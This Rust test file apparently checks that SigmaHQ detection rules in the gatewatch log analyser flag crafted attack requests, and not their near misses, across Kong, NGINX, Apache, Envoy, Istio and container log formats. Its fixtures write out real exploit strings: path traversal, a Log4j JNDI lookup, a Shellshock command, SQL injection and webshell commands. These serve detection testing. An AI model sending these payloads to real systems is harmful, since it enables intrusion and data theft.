//! SigmaHQ's own rules, unchanged, on every log shape gatewatch reads: for each rule a request
//! it must flag and a near miss it must not, rendered as Kong JSON, NGINX/Apache combined and
//! vhost, Envoy JSON and text, Istio text, and inside CRI and Docker envelopes.

use std::collections::BTreeSet;
use std::path::Path;

use gatewatch_generate::Request;
use gatewatch_generate::{write_line, Shape};

use crate::support::{alerts_of, gatewatch};

/// One rule (path under `rules/sigma/sigmahq/`), what it is about, and a matching and a
/// near-miss request: (method, target, status, user agent).
struct Case {
    file: &'static str,
    shows: &'static str,
    hit: (&'static str, &'static str, u16, &'static str),
    miss: (&'static str, &'static str, u16, &'static str),
}

const UA: &str = "Mozilla/5.0 (X11; Linux x86_64)";
const ET: &str = "rules-emerging-threats";

fn cases() -> Vec<Case> {
    vec![
        Case {
            file: "2010/Exploits/CVE-2010-5278/web_cve_2010_5278_exploitation_attempt.yml",
            shows: "contains with `%00` and `?` taken literally",
            hit: ("GET", "/manager/controllers/default/resource/tvs.php?class_key=../../../../../../../../../../windows/win.ini%00", 200, UA),
            miss: ("GET", "/manager/controllers/default/resource/tvs.php?class_key=../../../../../../../../../../windows/win.ini", 200, UA),
        },
        Case {
            file: "2018/Exploits/CVE-2018-13379/web_cve_2018_13379_fortinet_preauth_read_exploit.yml",
            shows: "contains|all",
            hit: ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 200, UA),
            miss: ("GET", "/remote/fgt_lang?lang=en/dev/cmdb/sslvpn_websession", 200, UA),
        },
        Case {
            file: "2018/Exploits/CVE-2018-2894/web_cve_2018_2894_weblogic_exploit.yml",
            shows: "`*` wildcards in a whole-value match",
            hit: ("GET", "/ws_utc/config/keystore/1567.jsp", 200, UA),
            miss: ("GET", "/ws_utc/config/keystore/1567.txt", 200, UA),
        },
        Case {
            file: "2019/Exploits/CVE-2019-11510/web_cve_2019_11510_pulsesecure_exploit.yml",
            shows: "`?` matches exactly one character",
            hit: ("GET", "/dana-na/../dana/html5acc/guacamole/../../../etc/passwd", 200, UA),
            miss: ("GET", "/dana/html5acc/guacamole/x", 200, UA),
        },
        Case {
            file: "2019/Exploits/CVE-2019-19781/web_cve_2019_19781_citrix_exploit.yml",
            shows: "list of maps, endswith, `1 of selection_*`",
            hit: ("GET", "/vpn/../vpns/cfg/smb.conf", 200, UA),
            miss: ("GET", "/vpns/cfg/smb.conf.bak", 200, UA),
        },
        Case {
            file: "2019/Exploits/CVE-2019-3398/web_cve_2019_3398_confluence.yml",
            shows: "method and contains|all ANDed",
            hit: ("POST", "/upload.action?filename=../../../../x.jsp", 200, UA),
            miss: ("GET", "/upload.action?filename=../../../../x.jsp", 200, UA),
        },
        Case {
            file: "2020/Exploits/CVE-2020-0688/web_cve_2020_0688_msexchange.yml",
            shows: "`all of selection*`",
            hit: ("GET", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=x", 200, UA),
            miss: ("POST", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=x", 200, UA),
        },
        Case {
            file: "2020/Exploits/CVE-2020-3452/web_cve_2020_3452_cisco_asa_ftd.yml",
            shows: "three selections ANDed, one on the status",
            hit: ("GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua", 200, UA),
            miss: ("GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua", 404, UA),
        },
        Case {
            file: "2020/TA/SolarWinds-Supply-Chain/web_solarwinds_supernova_webshell.yml",
            shows: "case-insensitive contains, `or`, status 500",
            hit: ("GET", "/Orion/LogoImageHandler.ashx?id=1", 500, UA),
            miss: ("GET", "/Orion/LogoImageHandler.ashx?id=1", 200, UA),
        },
        Case {
            file: "2021/Exploits/CVE-2021-21972/web_cve_2021_21972_vsphere_unauth_rce_exploit.yml",
            shows: "a plain value matches the whole field",
            hit: ("POST", "/ui/vropspluginui/rest/services/uploadova", 200, UA),
            miss: ("POST", "/ui/vropspluginui/rest/services/uploadova?x=1", 200, UA),
        },
        Case {
            file: "2021/Exploits/CVE-2021-28480/web_cve_2021_28480_exchange_exploit.yml",
            shows: "`not 1 of filter_*`",
            hit: ("POST", "/owa/calendar/a@x.com/y/z", 200, UA),
            miss: ("POST", "/owa/calendar/a@x.com/y/z", 503, UA),
        },
        Case {
            file: "2021/Exploits/CVE-2021-41773/web_cve_2021_41773_apache_path_traversal.yml",
            shows: "a list of statuses",
            hit: ("GET", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 200, UA),
            miss: ("GET", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 403, UA),
        },
        Case {
            file: "2021/Exploits/CVE-2021-44228/web_cve_2021_44228_log4j.yml",
            shows: "keywords search the user agent too; `and not filter`",
            hit: ("GET", "/", 200, "${jndi:ldap://203.0.113.9/a}"),
            miss: ("GET", "/", 200, "${jndi:ldap://w.nessus.org/nessus}"),
        },
        Case {
            file: "2021/Exploits/VisualDoor-Exploit/web_sonicwall_jarrewrite_exploit.yml",
            shows: "a target and a user agent ANDed",
            hit: ("GET", "/cgi-bin/jarrewrite.sh", 200, "() { :; }; echo ; /bin/bash -c id"),
            miss: ("GET", "/cgi-bin/jarrewrite.sh", 200, UA),
        },
        Case {
            file: "2021/TA/UNC2546/web_unc2546_dewmode_php_webshell.yml",
            shows: "`1 of selection*` over contains|all",
            hit: ("GET", "/x.html?dwn=abc&fn=def", 200, UA),
            miss: ("GET", "/x.html?dwn=abc", 200, UA),
        },
        Case {
            file: "2023/Exploits/CVE-2023-23752/web_cve_2023_23752_joomla_exploit_attempt.yml",
            shows: "contains|all with a query parameter",
            hit: ("GET", "/api/index.php/v1/config/application?public=true", 200, UA),
            miss: ("GET", "/api/index.php/v1/config/application?public=false", 200, UA),
        },
        Case {
            file: "2023/Exploits/CVE-2023-25157/web_cve_2023_25157_geoserver_sql_injection.yml",
            shows: "two keys on one field in one map",
            hit: ("GET", "/geoserver/ows?service=WFS&CQL_FILTER=strStartsWith(x,'a''+OR+1=1')", 200, UA),
            miss: ("GET", "/geoserver/ows?service=WFS&CQL_FILTER=strStartsWith(x,'a')", 200, UA),
        },
        Case {
            file: "2024/Exploits/CVE-2024-1709/web_exploit_cve_2024_1709_screenconnect.yml",
            shows: "cs-uri-stem is the path without the query",
            hit: ("GET", "/SetupWizard.aspx/x", 200, UA),
            miss: ("GET", "/SetupWizard.aspx?x=/SetupWizard.aspx/", 200, UA),
        },
        Case {
            file: "2025/Exploits/CVE-2025-31324/web_lnx_exploit_cve_2025_31324_sap_netviewer_webshell.yml",
            shows: "stem contains|all and a list of maps",
            hit: ("GET", "/irj/servlet_jsp/irj/root/helper.jsp?cmd=whoami", 200, UA),
            miss: ("GET", "/irj/servlet_jsp/irj/root/helper.jsp?q=hello", 200, UA),
        },
        Case {
            file: "2023/Exploits/CVE-2023-36884/proxy_exploit_cve_2023_36884_office_windows_html_rce.yml",
            shows: "`re` is case-sensitive and unanchored (proxy rule)",
            hit: ("GET", "/MSHTML_C7/file001.htm?d=10.1.2.3", 200, UA),
            miss: ("GET", "/MSHTML_C7/file001.htm?D=10.1.2.3", 200, UA),
        },
    ]
    .into_iter()
    .map(|mut c| {
        c.file = Box::leak(format!("{ET}/{}", c.file).into_boxed_str());
        c
    })
    .chain([
        Case {
            file: "rules/web/webserver_generic/web_iis_tilt_shortname_scan.yml",
            shows: "endswith, method list, status list",
            hit: ("OPTIONS", "/ABCDEF~1*/a.aspx", 301, UA),
            miss: ("OPTIONS", "/ABCDEF~1*/a.aspx", 404, UA),
        },
        Case {
            file: "rules/web/webserver_generic/web_source_code_enumeration.yml",
            shows: "a keyword is a substring",
            hit: ("GET", "/app/.git/config", 404, UA),
            miss: ("GET", "/app/.gitignore", 404, UA),
        },
        Case {
            file: "rules/web/webserver_generic/web_sql_injection_in_access_logs.yml",
            shows: "selection and keywords and not a status",
            hit: ("GET", "/items?id=1%20UNION%20SELECT%20password", 200, UA),
            miss: ("GET", "/items?id=1%20UNION%20SELECT%20password", 404, UA),
        },
        Case {
            file: "rules/web/proxy_generic/proxy_hello_world_user_agent.yml",
            shows: "a whole user agent (proxy rule)",
            hit: ("GET", "/", 200, "Hello-World/1.0"),
            miss: ("GET", "/", 200, "Hello-World/1.0 (compatible)"),
        },
        Case {
            file: "rules/web/webserver_generic/web_jndi_exploit.yml",
            shows: "keywords on the target",
            hit: ("GET", "/login?x=ldap://203.0.113.9:1389/Basic/Command/Base64/aWQ=", 200, UA),
            miss: ("GET", "/login?x=ldap", 200, UA),
        },
        Case {
            file: "rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
            shows: "traversal patterns",
            hit: ("GET", "/static/../../../../etc/passwd", 400, UA),
            miss: ("GET", "/static/etc/passwd", 400, UA),
        },
    ])
    .collect()
}

fn format_flag(shape: Shape) -> &'static str {
    match shape {
        Shape::Kong => "kong",
        Shape::NginxCombined | Shape::ApacheVhost | Shape::CriNginx => "nginx",
        Shape::EnvoyJson | Shape::EnvoyText | Shape::IstioText | Shape::DockerEnvoy => "envoy",
    }
}

fn request(
    i: usize,
    near: bool,
    (method, target, status, ua): (&'static str, &str, u16, &'static str),
) -> Request {
    Request {
        t_ms: 1_767_225_600_000 + i as i64 * 10,
        seq: (i * 2 + usize::from(near)) as u64,
        ip: format!("10.{i}.0.{}", if near { 2 } else { 1 }),
        method,
        path: target.to_owned(),
        status,
        user_agent: ua,
        username: None,
        consumer: None,
        response_bytes: 512,
        latency_ms: 12,
        service: "shop",
        ai: None,
    }
}

#[test]
fn sigmahq_rules_flag_their_attack_and_not_the_near_miss_in_every_log_shape() {
    let cases = cases();
    assert!(cases.len() >= 25, "at least 25 upstream rules");
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sigma/sigmahq");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    let mut ids = Vec::new();
    for (i, c) in cases.iter().enumerate() {
        let text = std::fs::read_to_string(root.join(c.file)).unwrap();
        let id = text
            .lines()
            .find_map(|l| l.strip_prefix("id: "))
            .unwrap_or_else(|| panic!("{} has an id", c.file))
            .trim()
            .to_owned();
        // Unchanged upstream text; a numbered name keeps two rules of one name apart.
        std::fs::write(rules.join(format!("{i:02}.yml")), text).unwrap();
        ids.push(id);
    }
    let lint = gatewatch(
        &["rules", "lint", rules.to_str().unwrap(), "--sigma-proxy"],
        None,
    );
    let listed = String::from_utf8_lossy(&lint.stdout);
    assert!(
        lint.status.success() && !listed.contains("skipped"),
        "{listed}"
    );
    for shape in Shape::ALL {
        let mut text = String::new();
        for (i, c) in cases.iter().enumerate() {
            for (near, req) in [(false, c.hit), (true, c.miss)] {
                write_line(shape, &request(i, near, req), &mut text);
                text.push('\n');
            }
        }
        let input = dir.path().join("access.log");
        std::fs::write(&input, &text).unwrap();
        let out = gatewatch(
            &[
                "run",
                "--rules",
                rules.to_str().unwrap(),
                "--sigma-proxy",
                "-f",
                format_flag(shape),
                "-i",
                input.to_str().unwrap(),
                "--no-summary",
            ],
            None,
        );
        assert!(
            out.status.success(),
            "{}: {}",
            shape.name(),
            String::from_utf8_lossy(&out.stderr)
        );
        let fired: BTreeSet<(String, String)> = alerts_of(&out)
            .iter()
            .map(|a| {
                (
                    a["rule_id"].as_str().unwrap().to_owned(),
                    a["entity"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        for (i, c) in cases.iter().enumerate() {
            let hit = (ids[i].clone(), format!("10.{i}.0.1"));
            let miss = (ids[i].clone(), format!("10.{i}.0.2"));
            assert!(
                fired.contains(&hit),
                "{}: {} ({}) missed {:?}",
                shape.name(),
                c.file,
                c.shows,
                c.hit
            );
            assert!(
                !fired.contains(&miss),
                "{}: {} ({}) flagged the near miss {:?}",
                shape.name(),
                c.file,
                c.shows,
                c.miss
            );
        }
    }
}
